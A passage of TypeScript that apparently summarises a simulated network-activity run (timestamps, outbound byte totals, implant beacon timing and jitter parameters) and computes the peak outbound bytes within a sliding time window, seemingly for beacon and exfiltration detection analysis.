    url_patterns: run.urlPatterns,
    start: web.length ? isoSeconds(web[0].ts) : isoSeconds(run.start),
    end: web.length ? isoSeconds(web[web.length - 1].ts) : isoSeconds(run.end),
    events: web.length,
    bytes_out: web.reduce((sum, a) => sum + a.bytesOut, 0),
    beacons: run.implants
      .filter((i) => i.timing)
      .map((i) => ({
        process: i.image,
        period_s: i.timing!.periodS,
        jitter_model: i.timing!.model,
        jitter: i.timing!.jitter,
        missing_rate: i.timing!.missingRate,
        office_hours_only: i.officeHoursOnly,
      })),
    signals: [...signals].sort(),
    description: run.description,
  };
}

/** Largest sum of bytes_out in any window of `widthUs` (activities sorted by time). */
function maxBytesOutIn(sorted: Activity[], widthUs: number): number {
  let best = 0;
  let sum = 0;
  let lo = 0;
  for (let hi = 0; hi < sorted.length; hi++) {
    sum += sorted[hi].bytesOut;
    while (sorted[hi].ts - sorted[lo].ts > widthUs) sum -= sorted[lo++].bytesOut;
    best = Math.max(best, sum);
  }
  return best;
}
